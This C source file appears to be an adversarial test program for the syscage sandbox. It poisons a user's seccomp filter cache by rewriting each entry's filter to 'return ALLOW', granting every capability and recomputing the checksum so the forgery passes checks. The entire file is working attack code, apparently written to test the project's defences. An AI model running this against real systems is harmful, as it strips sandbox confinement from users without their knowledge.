/* SPDX-License-Identifier: Apache-2.0 */
/* hostile_cache: a confined program poisoning its user's filter cache
 * (issue 11, class 2). For every entry in the directory DIR that it can
 * read, it keeps the header (magic, key, flags) and the included files'
 * identities, replaces the program with one instruction, "return ALLOW",
 * and recomputes the checksum: everything a reader checks comes from
 * public inputs. Written to a temporary file of mode 0600 and renamed, as
 * syscage writes its entries. Prints
 *   poisoned=N unknown=M
 * M: files whose format it does not know (the format of conf/runtime/cache.c,
 * "SCGCACH6"; update this copy when that changes).
 *   hostile_cache DIR */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* A copy of conf/runtime/cache.c's layout and checksum. */
#define MAGIC "SCGCACH6"

struct key {
	uint64_t h[2];
};

struct head {
	char magic[8];
	struct key key;
	uint64_t sum;
	uint32_t flags;
	uint32_t n_insns, default_action;
	uint32_t deps_len, unknown_len;
	uint64_t caps_keep;
	uint64_t caps, caps_kind;
	uint64_t listener_len;
};

static void mix_word(struct key *k, uint64_t w)
{
	k->h[0] = (k->h[0] ^ w) * 0x100000001b3ULL;
	k->h[0] ^= k->h[0] >> 32;
	k->h[1] = (k->h[1] ^ w) * 0x9e3779b97f4a7c15ULL;
	k->h[1] ^= k->h[1] >> 29;
}

static uint64_t checksum(const unsigned char *b, size_t n)
{
	struct key k = { { 0xcbf29ce484222325ULL, 0 } };
	uint64_t w;

	for (; n >= 8; b += 8, n -= 8) {
		memcpy(&w, b, 8);
		mix_word(&k, w);
	}
	if (n > 0) {
		w = 0;
		memcpy(&w, b, n);
		mix_word(&k, w ^ (uint64_t)n << 56);
	}
	return k.h[0];
}

/* 1: poisoned, 0: not an entry of the known format, -1: error. */
static int poison(const char *path)
{
	static const struct sock_filter allow =
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	unsigned char buf[1 << 16];
	char tmp[4200];
	struct head h;
	size_t keep;
	ssize_t n;
	int fd = open(path, O_RDONLY | O_NOFOLLOW);

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n < (ssize_t)sizeof(h))
		return 0;
	memcpy(&h, buf, sizeof(h));
	keep = sizeof(h) + (size_t)h.deps_len + h.unknown_len + h.listener_len;
	if (memcmp(h.magic, MAGIC, 8) != 0 ||
	    keep + (size_t)h.n_insns * sizeof(allow) != (size_t)n ||
	    keep + sizeof(allow) > sizeof(buf))
		return 0;
	memcpy(buf + keep, &allow, sizeof(allow));
	h.n_insns = 1;
	h.default_action = SECCOMP_RET_ALLOW;
	h.caps_keep = ~0ULL; /* and keep every capability */
	h.sum = checksum(buf + sizeof(h), keep + sizeof(allow) - sizeof(h));
	memcpy(buf, &h, sizeof(h));
	snprintf(tmp, sizeof(tmp), "%s.poison", path);
	fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		return -1;
	if (write(fd, buf, keep + sizeof(allow)) !=
		    (ssize_t)(keep + sizeof(allow)) ||
	    close(fd) < 0 || rename(tmp, path) < 0) {
		unlink(tmp);
		return -1;
	}
	return 1;
}

int main(int argc, char **argv)
{
	int done = 0, unknown = 0;
	struct dirent *d;
	DIR *dir = argc == 2 ? opendir(argv[1]) : NULL;

	if (!dir) {
		fprintf(stderr, "usage: hostile_cache DIR (a readable "
				"directory)\n");
		return 2;
	}
	while ((d = readdir(dir))) {
		char path[4200];
		int rc;

		if (d->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", argv[1], d->d_name);
		rc = poison(path);
		done += rc == 1;
		unknown += rc == 0;
	}
	closedir(dir);
	printf("poisoned=%d unknown=%d\n", done, unknown);
	return 0;
}
